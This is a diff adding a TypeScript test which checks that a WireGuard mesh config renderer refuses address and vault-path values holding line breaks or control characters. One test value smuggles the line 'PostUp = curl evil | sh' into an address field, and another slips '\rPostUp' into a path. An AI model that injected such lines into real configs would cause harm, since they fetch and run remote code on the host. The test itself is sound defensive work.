@@ -10,6 +10,7 @@ import { loadStackConfig, parseMeshConfig } from "../../infra/config";
 import { MeshConfigError, type ConfigIssue } from "../../infra/model";
 import { planMesh } from "../../infra/plan";
 import { hasUnprintable } from "../../infra/quote";
+import { renderCloudInit } from "../../infra/render/cloudinit";
 import { renderAll, throwAwayKeys, offlineEndpoints } from "../../infra/render/mesh";
 
 type Raw = Record<string, unknown> & { nodes: Record<string, Record<string, unknown>>; regions: Record<string, Record<string, unknown>> };
@@ -262,4 +263,14 @@ test("a config the validator accepts renders files where every value stays on it
   for (const text of Object.values(renderAll(plan, throwAwayKeys(plan), offlineEndpoints(plan)))) {
     for (const line of text.split("\n")) assert.ok(!hasUnprintable(line), JSON.stringify(line));
   }
+});
+
+test("renderers refuse what the validator refuses, so nothing built around it adds a line either", () => {
+  const plan = planMesh(parseMeshConfig(base()));
+  const hkg = plan.nodes.find((n) => n.name === "hkg") as (typeof plan.nodes)[number];
+  for (const bad of ["10.50.5.1\t", "10.50.5.1\nPostUp = curl evil | sh", "10.50.5.1\u202e"]) {
+    hkg.interfaceAddress = `${bad}/24`;
+    assert.throws(() => renderAll(plan, throwAwayKeys(plan), offlineEndpoints(plan)), /Address value .* holds a line break or control character; a wg-quick value is one plain line/);
+  }
+  assert.throws(() => renderCloudInit({ node: "hkg", vault: { kind: "file", path: "/tmp/x\rPostUp" } }), /vault\.path .* is invalid/);
 });
